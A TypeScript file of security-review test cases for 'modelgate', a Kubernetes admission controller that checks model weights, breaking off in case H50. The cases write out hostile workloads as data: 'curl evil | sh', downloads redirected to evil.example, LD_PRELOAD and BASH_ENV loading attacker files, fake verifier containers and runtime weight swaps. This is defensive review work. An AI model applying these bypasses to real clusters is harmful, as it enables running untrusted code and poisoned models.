// A security review of the fail-closed admission (docs/policy.md "Fail closed by scope" and after,
// docs/architecture.md ADR 8-12): hostile workloads that the documented model refuses but the code admits
// (HOLES), and legitimate workloads it refuses (FALSE_POSITIVES). Each case records what it achieves, the
// code that lets it through (file:line at the commit reviewed), and its class — fix the class, not the case.
//
// `now` is what the code does today; `want` is what the documented model says. review.test.ts asserts
// `now`, so the suite stays green and documents each hole. Fixed cases use `hole` and `falsePositive`
// (now = want). Every hole found so far is fixed, except the documented limitations (LIMITATIONS below).
import { img, pod, type Case } from './cases.ts';

type Obj = Record<string, unknown>;
export type Outcome = 'admitted' | 'refused';

export interface ReviewCase {
  id: string;
  class: ReviewClass;
  name: string;
  object: Obj;
  request?: Case['request'];
  /** The kind the AdmissionRequest names, when it is not the object's own (the API server's view). */
  requestKind?: { group: string; version: string; kind: string };
  now: Outcome;
  want: Outcome;
  /** Holes: what the attacker gets. False positives: why the workload is legitimate. */
  achieves: string;
  /** Where the code goes wrong (src path:line at the reviewed commit). */
  cause: string;
}

/** Classes, highest risk first (the report's order). */
export type ReviewClass =
  | 'exec-identity'
  | 'signature-scope'
  | 'code-injection'
  | 'verifier-impersonation'
  | 'source-provenance'
  | 'overlay-mounts'
  | 'pin-scope'
  | 'runtime-loading'
  | 'grammar-gaps'
  | 'env-reading'
  | 'cache-location'
  | 'update-relaxation'
  | 'object-level'
  | 'cross-pod-integrity'
  | 'writer-after-verification'
  | 'false-positive';

const D = (c: string) => `sha256:${c.repeat(64)}`;
const C = 'c'.repeat(40);
const VLLM = img('vllm/vllm-openai');
const LLAMA = img('ghcr.io/ggml-org/llama.cpp');
const TRITON = img('nvcr.io/nvidia/tritonserver');
const TGI = img('ghcr.io/huggingface/text-generation-inference');
const SI = img('kserve/storage-initializer');
const HFS = img('kserve/huggingfaceserver');
const ISTIO = img('istio/proxyv2');
const TGI_DLC = img(
  'us-docker.pkg.dev/deeplearning-platform-release/gcr.io/huggingface-text-generation-inference-cu124.2-4',
);
const MODEL_IMG = img('registry.example.com/models/llama', 'b');
/** The installation's verifier image in the harness (harness.ts VERIFIER_IMAGE). */
const VERIFIER = `registry.example.com/modelgate/verifier@${D('a')}`;
/** A digest the attacker computed over their own files (prod signs nothing, so any digest verifies). */
const ATTACKER_DIGEST = D('e');
const SIGNED = 'sha256:92745110b1ab4368471cbe31664e10174e954b113a3df333db860317b2c6dec4';

const ro = [{ name: 'm', mountPath: '/models/m', readOnly: true }];
const modelVol = { name: 'm', image: { reference: MODEL_IMG } };
/** A ConfigMap the deployer writes, mounted executable: scripts, Python files, a fake binary. */
const cfgVol = { name: 'cfg', configMap: { name: 'tools', defaultMode: 0o755 } };
const cfgMount = { name: 'cfg', mountPath: '/cfg', readOnly: true };
const scratch = { name: 'w', persistentVolumeClaim: { claimName: 'scratch' } };
const annotate = (models: unknown[]) => ({ annotations: { 'modelgate.io/models': JSON.stringify(models) } });

/** vLLM on the digest-pinned model image volume, plus whatever the case adds (admitted in prod alone). */
function vllmPod(ns: string, container: Obj, extraVolumes: Obj[] = [], meta: Obj = {}): Obj {
  return pod(
    ns,
    {
      containers: [{ name: 'server', image: VLLM, volumeMounts: ro, ...container }],
      volumes: [modelVol, ...extraVolumes],
    },
    meta,
  );
}
const withCfg = (container: Obj): Obj => ({ volumeMounts: [...ro, cfgMount], ...container });

function deploy(ns: string, spec: Obj): Obj {
  return {
    apiVersion: 'apps/v1',
    kind: 'Deployment',
    metadata: { name: 'd', namespace: ns },
    spec: { selector: { matchLabels: { app: 'd' } }, template: { metadata: { labels: { app: 'd' } }, spec } },
  };
}
const isvc = (spec: Obj): Obj => ({
  apiVersion: 'serving.kserve.io/v1beta1',
  kind: 'InferenceService',
  metadata: { name: 'i', namespace: 'prod' },
  spec,
});

/** The same Pod with its spec changed. */
const withPodSpec = (p: Obj, f: (spec: Obj) => Obj): Obj => ({ ...p, spec: f(p.spec as Obj) });

/** A downloader writing the emptyDir "k" that the verifier then checks and the server reads. */
function downloaded(initContainer: Obj): Obj {
  return pod(
    'prod',
    {
      initContainers: [{ volumeMounts: [{ name: 'k', mountPath: '/mnt/models' }], ...initContainer }],
      containers: [
        {
          name: 'kserve-container',
          image: HFS,
          args: ['--model_dir=/mnt/models'],
          volumeMounts: [{ name: 'k', mountPath: '/mnt/models', readOnly: true }],
        },
      ],
      volumes: [{ name: 'k', emptyDir: {} }],
    },
    annotate([{ name: 'm', volume: 'k', digest: ATTACKER_DIGEST }]),
  );
}

const hole = (
  id: string,
  klass: Exclude<ReviewClass, 'false-positive'>,
  name: string,
  object: Obj,
  achieves: string,
  cause: string,
  request?: Case['request'],
): ReviewCase => ({
  id,
  class: klass,
  name,
  object,
  // Fixed: today's verdict is the documented one.
  now: 'refused',
  want: 'refused',
  achieves,
  cause,
  ...(request ? { request } : {}),
});

export const HOLES: ReviewCase[] = [
  // ── exec-identity: what the kernel executes is not what modelgate read ─────────────────────────────
  // A grammar is chosen by the basename of argv[0]; the file at that path (or found through PATH) can
  // come from a volume the deployer writes, and shells and Python take options modelgate does not model.
  hole(
    'H01',
    'exec-identity',
    'the "vllm" program is a script on a ConfigMap volume',
    vllmPod('prod', withCfg({ command: ['/cfg/vllm', 'serve', '/models/m'] }), [cfgVol]),
    'official pinned vLLM image; /cfg/vllm is any script (curl evil | sh; exec python -m vllm... evil-org/x); modelgate reads it as vLLM serving the verified volume',
    'src/workloads/argv.ts:98 (basename(prog) picks the grammar; the path is never checked to be inside the image rather than under a volume mount)',
  ),
  hole(
    'H02',
    'exec-identity',
    'PATH points at a ConfigMap volume, so "vllm" resolves to the deployer\'s file',
    vllmPod(
      'prod',
      withCfg({
        command: ['vllm', 'serve', '/models/m'],
        env: [{ name: 'PATH', value: '/cfg:/usr/bin:/bin' }],
      }),
      [cfgVol],
    ),
    'same as H01 without a path in command: the runtime looks "vllm" up in the container PATH',
    'src/workloads/container.ts:152 (readEnv) — no variable that changes program resolution (PATH) is read',
  ),
  hole(
    'H03',
    'exec-identity',
    'python3 runs a script on a volume named vllm',
    vllmPod('prod', withCfg({ command: ['python3', '/cfg/vllm', 'serve', '/models/m'] }), [cfgVol]),
    'any Python from the ConfigMap, read as vLLM',
    'src/workloads/argv.ts:139 (python <script>: basename of the script file names the program)',
  ),
  hole(
    'H04',
    'exec-identity',
    'env -C /cfg ./vllm (relative program after a chdir)',
    vllmPod('prod', withCfg({ command: ['env', '-C', '/cfg', './vllm', 'serve', '/models/m'] }), [cfgVol]),
    'runs /cfg/vllm from the ConfigMap',
    'src/workloads/argv.ts:106,98 (env -C is skipped, then basename("./vllm") is "vllm")',
  ),
  hole(
    'H05',
    'exec-identity',
    'sh <script file> -c "<benign line>": sh runs the file, modelgate reads the -c line',
    vllmPod('prod', withCfg({ command: ['sh', '/cfg/start.sh', '-c', 'vllm serve /models/m'] }), [cfgVol]),
    'sh executes /cfg/start.sh (anything); "-c" and the line are only its $1 $2',
    "src/workloads/argv.ts:118-120 (finds -c anywhere in the shell's arguments instead of requiring it before the first operand)",
  ),
  hole(
    'H06',
    'exec-identity',
    'sh -C (noclobber, uppercase) is taken for -c',
    vllmPod('prod', { command: ['sh', '-C', 'vllm serve /models/m'] }),
    'sh runs the file literally named "vllm serve /models/m" (in an image the deployer built, or under a mounted workingDir)',
    'src/workloads/argv.ts:118 (the option-cluster regex is case-insensitive: /^-[a-z]*c[a-z]*$/i)',
  ),
  hole(
    'H07',
    'exec-identity',
    'bash --rcfile <file> -i -c "<benign line>"',
    vllmPod(
      'prod',
      withCfg({ command: ['bash', '--rcfile', '/cfg/rc', '-i', '-c', 'vllm serve /models/m'] }),
      [cfgVol],
    ),
    'an interactive bash sources /cfg/rc before the line: any code',
    'src/workloads/argv.ts:118-121 (shell options that run files — --rcfile/--init-file with -i, BASH_ENV — are not modelled)',
  ),
  hole(
    'H08',
    'exec-identity',
    'python3 -W -m vllm...: -W takes "-m" as its value, python runs a file',
    vllmPod(
      'prod',
      withCfg({
        workingDir: '/cfg',
        command: ['python3', '-W', '-m', 'vllm.entrypoints.openai.api_server', '--model', '/models/m'],
      }),
      [cfgVol],
    ),
    'python executes the file ./vllm.entrypoints.openai.api_server from the ConfigMap working directory',
    'src/workloads/argv.ts:126 (-W and -X take an argument; they are skipped as if they were flags without one)',
  ),
  hole(
    'H09',
    'exec-identity',
    'python -m with the working directory on a volume shadows the vllm package',
    vllmPod(
      'prod',
      withCfg({
        workingDir: '/cfg',
        command: ['python3', '-m', 'vllm.entrypoints.openai.api_server', '--model', '/models/m'],
      }),
      [cfgVol],
    ),
    'python -m puts the working directory first on sys.path: /cfg/vllm/... (ConfigMap items with paths) replaces the server',
    'src/workloads/container.ts:277-281 (a recognised module is trusted whatever workingDir points at)',
  ),

  // ── code-injection: environment that makes a recognised server run other code ─────────────────────
  hole(
    'H10',
    'code-injection',
    'BASH_ENV sources a file before the one simple command',
    vllmPod(
      'prod',
      withCfg({
        command: ['bash', '-c', 'vllm serve /models/m'],
        env: [{ name: 'BASH_ENV', value: '/cfg/evil.sh' }],
      }),
      [cfgVol],
    ),
    'non-interactive bash runs $BASH_ENV first: any code, then (or instead of) vLLM',
    "src/workloads/container.ts:330 (only the grammar's own variables and DOWNLOAD_ENV are read; code-loading variables are not)",
  ),
  hole(
    'H11',
    'code-injection',
    'PYTHONPATH with a sitecustomize.py on a ConfigMap',
    vllmPod(
      'prod',
      withCfg({ args: ['--model', '/models/m'], env: [{ name: 'PYTHONPATH', value: '/cfg' }] }),
      [cfgVol],
    ),
    'Python imports /cfg/sitecustomize.py at start-up inside vLLM: it can load any weights',
    'src/workloads/container.ts:330 (PYTHONPATH, PYTHONSTARTUP, PYTHONHOME, PYTHONUSERBASE unread)',
  ),
  hole(
    'H12',
    'code-injection',
    'LD_PRELOAD a shared object from a volume',
    vllmPod(
      'prod',
      withCfg({ args: ['--model', '/models/m'], env: [{ name: 'LD_PRELOAD', value: '/cfg/evil.so' }] }),
      [cfgVol],
    ),
    'native code in the server process (ConfigMap binaryData)',
    'src/workloads/container.ts:330 (LD_PRELOAD, LD_LIBRARY_PATH unread)',
  ),
  hole(
    'H13',
    'code-injection',
    'vLLM --tool-parser-plugin imports a Python file from a volume',
    vllmPod(
      'prod',
      withCfg({ command: ['vllm', 'serve', '/models/m', '--tool-parser-plugin', '/cfg/evil.py'] }),
      [cfgVol],
    ),
    'vLLM imports /cfg/evil.py at start-up',
    "src/workloads/command-line.ts:193-204 (an unknown flag not matching MODEL_ISH is ignored once the positional model is settled); src/workloads/servers.ts:128-190 lacks vLLM's code-loading flags (--tool-parser-plugin, --reasoning-parser-plugin, --middleware, --logits-processors, --worker-cls, --worker-extension-cls, --scheduler-cls, --io-processor-plugin)",
  ),
  hole(
    'H14',
    'code-injection',
    'vLLM --middleware imports a module from PYTHONPATH',
    vllmPod(
      'prod',
      withCfg({
        command: ['vllm', 'serve', '/models/m', '--middleware', 'evil.Middleware'],
        env: [{ name: 'PYTHONPATH', value: '/cfg' }],
      }),
      [cfgVol],
    ),
    'arbitrary Python in the API server process',
    'as H13 and H11',
  ),

  // ── verifier-impersonation ─────────────────────────────────────────────────────────────────────────
  hole(
    'H15',
    'verifier-impersonation',
    'a hand-written "modelgate-verifier" init container with PATH on a ConfigMap poisons the HF cache',
    pod('prod', {
      initContainers: [
        {
          name: 'modelgate-verifier',
          image: VERIFIER,
          command: ['modelgate'],
          args: ['verify'],
          env: [{ name: 'PATH', value: '/cfg' }],
          volumeMounts: [cfgMount, { name: 'cache', mountPath: '/cache' }],
        },
      ],
      containers: [
        {
          name: 'server',
          image: VLLM,
          command: ['vllm', 'serve', 'example-org/llama', '--revision', C],
          env: [{ name: 'HF_HOME', value: '/cache' }],
          volumeMounts: [{ name: 'cache', mountPath: '/cache', readOnly: true }],
        },
      ],
      volumes: [cfgVol, { name: 'cache', emptyDir: {} }],
    }),
    '/cfg/modelgate (any script) runs as an accounted init container and writes models--example-org--llama/snapshots/<commit>/ into the emptyDir cache; vLLM finds the pinned commit in its cache and loads those bytes',
    'src/policy/checks/containers.ts:14-29 (name + image + command words are enough; env, volumes, workingDir unchecked) and src/mutation/verifier-check.ts:34 (no comparison at all when the pod has no volume-delivered model); src/workloads/pod.ts:71 (an emptyDir cache is trusted as pod-local although an init container can fill it)',
  ),
  hole(
    'H16',
    'verifier-impersonation',
    'the same fake verifier in a Deployment template, NODE_OPTIONS=--require',
    deploy('prod', {
      initContainers: [
        {
          name: 'modelgate-verifier',
          image: VERIFIER,
          command: ['modelgate'],
          args: ['verify'],
          env: [{ name: 'NODE_OPTIONS', value: '--require /cfg/x.js' }],
          volumeMounts: [cfgMount],
        },
      ],
      containers: [
        { name: 'server', image: VLLM, command: ['vllm', 'serve', 'example-org/llama', '--revision', C] },
      ],
      volumes: [cfgVol],
    }),
    'arbitrary JavaScript in the verifier image (the mutating webhook keeps it: the pod needs no verifier)',
    'as H15; for kinds other than Pod the verifier check never runs (src/mutation/verifier-check.ts:33)',
  ),

  // ── source-provenance: the policy's sources are satisfied by claims, not by where bytes come from ──
  hole(
    'H17',
    'source-provenance',
    'storage initializer with AWS_ENDPOINT_URL, made "bound" by a digest the attacker declares',
    downloaded({
      name: 'storage-initializer',
      image: SI,
      args: ['s3://models-prod/llama', '/mnt/models'],
      env: [{ name: 'AWS_ENDPOINT_URL', value: 'https://evil.example' }],
    }),
    "bytes from evil.example pass as s3://models-prod/llama: prod signs nothing, so the verifier only proves the bytes match the attacker's own digest",
    'src/workloads/container.ts:487 (redirects are "unbound" relevance) + src/policy/checks/containers.ts:80 (dropped when the verifier binds the volume); binding to a declared digest is not provenance unless a signature or allowedDigests backs the digest',
  ),
  hole(
    'H18',
    'source-provenance',
    'huggingface-cli download with HF_ENDPOINT, digest declared by the attacker',
    downloaded({
      name: 'dl',
      image: img('registry.example.com/ml/hf-cli'),
      command: [
        'huggingface-cli',
        'download',
        'example-org/llama',
        '--revision',
        C,
        '--local-dir',
        '/mnt/models',
      ],
      env: [{ name: 'HF_ENDPOINT', value: 'https://evil.example' }],
    }),
    'evil weights pass as hf://example-org/llama@<commit>',
    'as H17',
  ),
  hole(
    'H19',
    'source-provenance',
    'aws s3 cp --endpoint-url (a flag, not even a variable)',
    downloaded({
      name: 'dl',
      image: img('amazon/aws-cli'),
      command: [
        'aws',
        's3',
        'cp',
        '--endpoint-url',
        'https://evil.example',
        '--recursive',
        's3://models-prod/llama',
        '/mnt/models',
      ],
    }),
    'bytes from evil.example pass as s3://models-prod/llama (the CLI flag is never read as a redirect)',
    'src/workloads/servers.ts:552 (--endpoint-url is a plain value for object-store copies; gsutil -o/BOTO_CONFIG, AWS_CONFIG_FILE likewise unread)',
  ),
  ...(
    [
      ['H20', 'nfs', { server: 'nfs.evil.example', path: '/weights' }],
      ['H21', 'csi', { driver: 'blob.csi.azure.com', volumeAttributes: { containerName: 'evil' } }],
      ['H22', 'configMap', { name: 'weights' }],
      ['H23', 'gitRepo', { repository: 'https://evil.example/weights.git' }],
    ] as const
  ).map(([id, type, spec]) =>
    hole(
      id,
      'source-provenance',
      `the annotation's uri is believed for a ${type} volume`,
      pod(
        'prod',
        {
          containers: [
            {
              name: 'server',
              image: VLLM,
              args: ['--model', '/models/m'],
              volumeMounts: [{ name: 'w', mountPath: '/models/m', readOnly: true }],
            },
          ],
          volumes: [{ name: 'w', [type]: spec }],
        },
        annotate([{ name: 'm', volume: 'w', uri: 's3://models-prod/llama', digest: ATTACKER_DIGEST }]),
      ),
      `a ${type} volume of the attacker's bytes passes "sources" as s3://models-prod/llama`,
      'src/workloads/extract.ts:111,441 (only emptyDir, hostPath, PVC and ephemeral are "unbound"; every other type — nfs, csi, iscsi, cephfs, configMap, secret, projected, gitRepo, ... — keeps the claimed uri)',
    ),
  ),
  hole(
    'H24',
    'source-provenance',
    'a PVC the deployer named models-evil matches pvc://models-*',
    pod(
      'prod',
      {
        containers: [
          {
            name: 'server',
            image: VLLM,
            args: ['--model', '/models/m'],
            volumeMounts: [{ name: 'w', mountPath: '/models/m', readOnly: true }],
          },
        ],
        volumes: [{ name: 'w', persistentVolumeClaim: { claimName: 'models-evil', readOnly: true } }],
      },
      annotate([{ name: 'm', volume: 'w', digest: ATTACKER_DIGEST }]),
    ),
    'namespace editors create PVCs: a claim name is not a provenance; with no signature any content passes',
    'src/workloads/extract.ts:437-440 (pvc://<claim> is a deployer-chosen string); docs/policy.md recommends pvc://model-cache-* without saying so',
  ),
  hole(
    'H25',
    'source-provenance',
    'a 40-hex commit of an allowed HF repo is "pinned", whoever authored it',
    pod('prod', {
      containers: [
        {
          name: 'server',
          image: VLLM,
          command: ['vllm', 'serve', 'example-org/llama', '--revision', 'd'.repeat(40)],
        },
      ],
    }),
    'anyone can open a pull request on a public HF repo; its commit (refs/pr/N) is fetchable by sha from example-org/llama',
    'src/workloads/uri.ts:91 (any 40-hex revision pins); hf:// sources say nothing about which branch a commit is on — needs allowedDigests/signatures or a documented warning',
  ),

  // ── overlay-mounts: the bytes at a model path come from a mount modelgate did not attribute ────────
  hole(
    'H26',
    'overlay-mounts',
    'a PVC file mounted inside the verified model directory',
    vllmPod(
      'prod',
      {
        args: ['--model', '/models/m'],
        volumeMounts: [
          ...ro,
          {
            name: 'w',
            mountPath: '/models/m/model.safetensors',
            subPath: 'evil.safetensors',
            readOnly: true,
          },
        ],
      },
      [scratch],
    ),
    "the weights file the server reads is the PVC's; the image volume (and the verifier) see the original",
    'src/workloads/pod.ts:153-170 (mountFor finds the mount holding the path; mounts beneath a model path are never attributed to it)',
  ),
  hole(
    'H27',
    'overlay-mounts',
    'Triton repository on a verified volume, one of its model directories replaced by a PVC',
    pod('prod', {
      containers: [
        {
          name: 'triton',
          image: TRITON,
          command: ['tritonserver', '--model-repository=/models/m'],
          volumeMounts: [...ro, { name: 'w', mountPath: '/models/m/llama', readOnly: true }],
        },
      ],
      volumes: [modelVol, scratch],
    }),
    'Triton loads every model directory of the repository: /models/m/llama (a directory that exists in the image, so the read-only volume needs no new mount point) is the PVC',
    'as H26',
  ),
  hole(
    'H28',
    'overlay-mounts',
    'TF Serving: MODEL_NAME picks a directory under MODEL_BASE_PATH (traversal out of it)',
    pod('prod', {
      containers: [
        {
          name: 'tfs',
          image: img('tensorflow/serving'),
          env: [
            { name: 'MODEL_BASE_PATH', value: '/models/m' },
            { name: 'MODEL_NAME', value: '../../w' },
          ],
          volumeMounts: [...ro, { name: 'w', mountPath: '/w', readOnly: true }],
        },
      ],
      volumes: [modelVol, scratch],
    }),
    'the image entrypoint runs --model_base_path=${MODEL_BASE_PATH}/${MODEL_NAME} = /w (the PVC)',
    'src/workloads/servers.ts:459 (MODEL_BASE_PATH read as the whole path; MODEL_NAME ignored)',
  ),
  hole(
    'H29',
    'overlay-mounts',
    'two mounts at one normalised path: modelgate keeps the first, the runtime mounts the last on top',
    vllmPod(
      'prod',
      {
        args: ['--model', '/models/m'],
        volumeMounts: [...ro, { name: 'w', mountPath: '/models/m/', readOnly: true }],
      },
      [scratch],
    ),
    'the API server accepts /models/m and /models/m/ as distinct; the container sees the PVC',
    'src/workloads/pod.ts:160-163 (ties on normalised length keep the first mount; duplicates are not refused)',
  ),
  hole(
    'H30',
    'overlay-mounts',
    'a mountPath with ".." disappears from modelgate\'s view (tee: pinned-only policy)',
    pod('tee', {
      containers: [
        {
          name: 'server',
          image: VLLM,
          args: ['--model', '/models/m'],
          volumeMounts: [{ name: 'w', mountPath: '/models/x/../m', readOnly: true }],
        },
      ],
      volumes: [scratch],
    }),
    'the model is taken for a file of the pinned server image; the runtime resolves the mount to /models/m (PVC)',
    'src/workloads/pod.ts:124-125 (an un-normalisable mountPath is skipped instead of refused)',
  ),
  hole(
    'H31',
    'overlay-mounts',
    'a workingDir with ".." falls back to the image default, hiding a hub-id shadow on a PVC',
    pod('prod', {
      containers: [
        {
          name: 'server',
          image: VLLM,
          workingDir: '/data/x/..',
          command: ['vllm', 'serve', 'example-org/llama', '--revision', C],
          volumeMounts: [{ name: 'd', mountPath: '/data', readOnly: true }],
        },
      ],
      volumes: [{ name: 'd', persistentVolumeClaim: { claimName: 'scratch' } }],
    }),
    'the real cwd is /data: from_pretrained loads /data/example-org/llama from the PVC',
    'src/workloads/container.ts:403 (normalisePath(workingDir) ?? image default)',
  ),
  hole(
    'H32',
    'overlay-mounts',
    'Triton repository in the image with a PVC mounted as one of its directories (tee)',
    pod('tee', {
      containers: [
        {
          name: 'triton',
          image: TRITON,
          command: ['tritonserver', '--model-repository=/models'],
          volumeMounts: [{ name: 'w', mountPath: '/models/evil', readOnly: true }],
        },
      ],
      volumes: [scratch],
    }),
    'the repository counts as "in the pinned image"; the PVC model inside it is never seen',
    'as H26 (src/workloads/container.ts:720-731)',
  ),

  // ── pin-scope: one pin is applied to references it does not pin ─────────────────────────────────────
  hole(
    'H33',
    'pin-scope',
    '--revision is applied to --tokenizer',
    pod('prod', {
      containers: [
        {
          name: 'server',
          image: VLLM,
          command: ['vllm', 'serve', 'example-org/llama', '--revision', C, '--tokenizer', 'example-org/tok'],
        },
      ],
    }),
    'vLLM fetches the tokenizer from main (--tokenizer-revision is separate); with --trust-remote-code that is code',
    "src/workloads/container.ts:428,641 (every hub candidate gets the main model's revisions)",
  ),
  hole(
    'H34',
    'pin-scope',
    '--revision is applied to a LoRA adapter',
    pod('prod', {
      containers: [
        {
          name: 'server',
          image: VLLM,
          command: [
            'vllm',
            'serve',
            'example-org/llama',
            '--revision',
            C,
            '--enable-lora',
            '--lora-modules',
            'a=example-org/adapter',
          ],
        },
      ],
    }),
    'the adapter comes from main, unpinned',
    'as H33',
  ),
  hole(
    'H35',
    'pin-scope',
    '--revision is applied to the speculative draft model',
    pod('prod', {
      containers: [
        {
          name: 'server',
          image: VLLM,
          command: [
            'vllm',
            'serve',
            'example-org/llama',
            '--revision',
            C,
            '--speculative-config',
            '{"model": "example-org/draft", "num_speculative_tokens": 5}',
          ],
        },
      ],
    }),
    'the draft model comes from main (its revision is speculative-config "revision")',
    'as H33',
  ),
  hole(
    'H36',
    'pin-scope',
    'llama.cpp -hf <hub repo> is taken for a file inside the pinned image (tee)',
    pod('tee', {
      containers: [{ name: 'llama', image: LLAMA, args: ['-hf', 'evil-org/model-GGUF:Q4_K_M'] }],
    }),
    "llama.cpp downloads the repo's current GGUF from the hub; modelgate counts it as pinned by the server image digest",
    'src/workloads/container.ts:671-674 (a relative value of a grammar without hub ids is a path in the image); -hf/-hfd/-hfv values are hub repos',
  ),

  hole(
    'H60',
    'pin-scope',
    'TGI: REVISION is applied to --lora-adapters',
    pod('prod', {
      containers: [
        {
          name: 'tgi',
          image: TGI,
          args: [
            '--model-id',
            'example-org/llama',
            '--revision',
            C,
            '--lora-adapters',
            'example-org/adapter',
          ],
        },
      ],
    }),
    "TGI downloads the adapter from its main branch; modelgate counts it as pinned by the base model's revision",
    'as H33 (src/workloads/container.ts:428,641)',
  ),

  // ── runtime-loading: the server swaps weights after start ──────────────────────────────────────────
  hole(
    'H37',
    'runtime-loading',
    'SGLang: POST /update_weights_from_disk is on by default',
    pod('prod', {
      containers: [
        {
          name: 'server',
          image: img('lmsysorg/sglang'),
          command: ['python3', '-m', 'sglang.launch_server', '--model-path', '/models/m'],
          volumeMounts: ro,
        },
      ],
      volumes: [modelVol],
    }),
    'anyone who reaches the port replaces the weights with {"model_path": "evil-org/x"} (also /update_weights_from_distributed, /load_lora_adapter)',
    'src/workloads/servers.ts:317-352 (SGLang has no loadsAtRunTime, unlike Ollama)',
  ),
  hole(
    'H38',
    'runtime-loading',
    "a postStart hook calls SGLang's weight-swap API with curl --json",
    pod('prod', {
      containers: [
        {
          name: 'server',
          image: img('lmsysorg/sglang'),
          command: ['python3', '-m', 'sglang.launch_server', '--model-path', '/models/m'],
          volumeMounts: ro,
          lifecycle: {
            postStart: {
              exec: {
                command: [
                  'curl',
                  '--json',
                  '{"model_path":"evil-org/x"}',
                  'http://localhost:30000/update_weights_from_disk',
                ],
              },
            },
          },
        },
      ],
      volumes: [modelVol],
    }),
    'the pod loads evil-org/x right after start',
    'src/workloads/container.ts:88 (LOAD_API misses update_weights) and :752-759 (curl --json, -XPOST, -d@file, --data-binary=..., --request=POST not recognised as a POST)',
  ),
  hole(
    'H39',
    'runtime-loading',
    'curl -XPOST to a percent-encoded load_lora_adapter path',
    vllmPod('prod', {
      command: ['vllm', 'serve', '/models/m'],
      readinessProbe: {
        exec: {
          command: [
            'curl',
            '-XPOST',
            '-d{"lora_name":"a","lora_path":"evil-org/a"}',
            'http://localhost:8000/v1/%6Coad_lora_%61dapter',
          ],
        },
      },
    }),
    'the server decodes the path and loads the adapter (with runtime LoRA enabled, e.g. H42)',
    'as H38: the probe is judged by substrings of its arguments',
  ),
  hole(
    'H40',
    'runtime-loading',
    'VLLM_SERVER_DEV_MODE exposes /collective_rpc, /sleep, /wake_up',
    vllmPod('prod', {
      command: ['vllm', 'serve', '/models/m'],
      env: [{ name: 'VLLM_SERVER_DEV_MODE', value: '1' }],
    }),
    'development endpoints that call into the workers (weight reload paths used for RLHF)',
    'src/workloads/servers.ts:191 (only VLLM_ALLOW_RUNTIME_LORA_UPDATING is a runtime-load variable)',
  ),

  // ── grammar-gaps: the command line is read differently from the server ─────────────────────────────
  hole(
    'H41',
    'grammar-gaps',
    'vLLM --disable-log-requests (a boolean) is read as taking a value, hiding the positional model',
    vllmPod('prod', {
      command: ['vllm', 'serve', '--disable-log-requests', 'evil-org/x', '--model', '/models/m'],
    }),
    'vLLM serves evil-org/x (the positional model wins over --model); modelgate reads only /models/m',
    'src/workloads/servers.ts:178 (listed under value:, arity one)',
  ),
  hole(
    'H42',
    'grammar-gaps',
    'env VAR=value launcher assignments are skipped, not read as environment',
    vllmPod('prod', {
      command: [
        'env',
        'VLLM_ALLOW_RUNTIME_LORA_UPDATING=true',
        'vllm',
        'serve',
        '/models/m',
        '--enable-lora',
      ],
    }),
    'runtime LoRA loading (the same variable in env: is refused); HF_ENDPOINT=... the same way',
    'src/workloads/argv.ts:102 (assignments are dropped instead of merged into the container env)',
  ),
  hole(
    'H43',
    'grammar-gaps',
    'llama.cpp -mm (short --mmproj) from a PVC',
    vllmPod(
      'prod',
      {
        name: 'llama',
        image: LLAMA,
        args: ['-m', '/models/m/model.gguf', '-mm', '/w/evil-mmproj.gguf'],
        volumeMounts: [...ro, { name: 'w', mountPath: '/w', readOnly: true }],
      },
      [scratch],
    ),
    'an unverified multimodal projector (weights) is loaded',
    'src/workloads/servers.ts:248-315 (missing -mm, -mmu, -dr/--docker-repo, -hffv/--hf-file-v, --control-vector-scaled; unknown short flags are silently ignored)',
  ),
  hole(
    'H44',
    'grammar-gaps',
    'llama.cpp -mmu downloads a projector from a URL',
    vllmPod('prod', {
      name: 'llama',
      image: LLAMA,
      args: ['-m', '/models/m/model.gguf', '-mmu', 'https://evil.example/mmproj.gguf'],
    }),
    'unpinned, unverified weights from any URL',
    'as H43',
  ),
  hole(
    'H45',
    'grammar-gaps',
    'llama.cpp -dr pulls a model from Docker Hub',
    vllmPod('prod', {
      name: 'llama',
      image: LLAMA,
      args: ['-m', '/models/m/model.gguf', '-dr', 'evil/model'],
    }),
    'an unpinned model from any Docker Hub repository',
    'as H43',
  ),
  hole(
    'H46',
    'grammar-gaps',
    'llama.cpp --control-vector-scaled from a PVC',
    vllmPod(
      'prod',
      {
        name: 'llama',
        image: LLAMA,
        args: ['-m', '/models/m/model.gguf', '--control-vector-scaled', '/w/cv.gguf', '0.8'],
        volumeMounts: [...ro, { name: 'w', mountPath: '/w', readOnly: true }],
      },
      [scratch],
    ),
    'an unverified control vector steers the model',
    'as H43 (MODEL_ISH has no "control"/"vector")',
  ),

  // ── env-reading: values the kubelet computes differently ──────────────────────────────────────────
  hole(
    'H47',
    'env-reading',
    '$(X) of a ConfigMap variable is kept as the literal text "$(X)"',
    vllmPod('prod', {
      command: ['vllm', 'serve', '/models/m', '--enable-lora'],
      env: [
        { name: 'X', valueFrom: { configMapKeyRef: { name: 'c', key: 'k' } } },
        { name: 'VLLM_ALLOW_RUNTIME_LORA_UPDATING', value: '$(X)' },
      ],
    }),
    'the kubelet substitutes "true": runtime LoRA loading',
    "src/workloads/env.ts:83 (the expansion's unknown names are discarded; the variable becomes a literal)",
  ),
  hole(
    'H48',
    'env-reading',
    '$(X) defined by envFrom is kept as the literal text "$(X)"',
    vllmPod('prod', {
      command: ['vllm', 'serve', '/models/m', '--enable-lora'],
      envFrom: [{ configMapRef: { name: 'c' } }],
      env: [{ name: 'VLLM_ALLOW_RUNTIME_LORA_UPDATING', value: '$(X)' }],
    }),
    'the kubelet expands env values with envFrom variables too: runtime LoRA loading, as in H47',
    'src/workloads/env.ts:83 (expands env values from explicit env only, not from envFrom)',
  ),

  // ── cache-location: a persistent Hugging Face cache modelgate does not see ────────────────────────
  hole(
    'H49',
    'cache-location',
    'a PVC mounted at /root holds ~/.cache/huggingface',
    pod('prod', {
      containers: [
        {
          name: 'server',
          image: VLLM,
          command: ['vllm', 'serve', 'example-org/llama', '--revision', C],
          volumeMounts: [{ name: 'h', mountPath: '/root' }],
        },
      ],
      volumes: [{ name: 'h', persistentVolumeClaim: { claimName: 'home' } }],
    }),
    'files pre-placed under snapshots/<commit>/ are loaded as example-org/llama@<commit>',
    'src/workloads/container.ts:447 (only mounts ending in /.cache[/huggingface[/hub]] are checked, not their parents)',
  ),
  hole(
    'H50',
    'cache-location',
    'HOME on a PVC',
    pod('prod', {
      containers: [
        {
          name: 'server',
          image: VLLM,
          command: ['vllm', 'serve', 'example-org/llama', '--revision', C],
          env: [{ name: 'HOME', value: '/data' }],
          volumeMounts: [{ name: 'h', mountPath: '/data' }],
        },
      ],
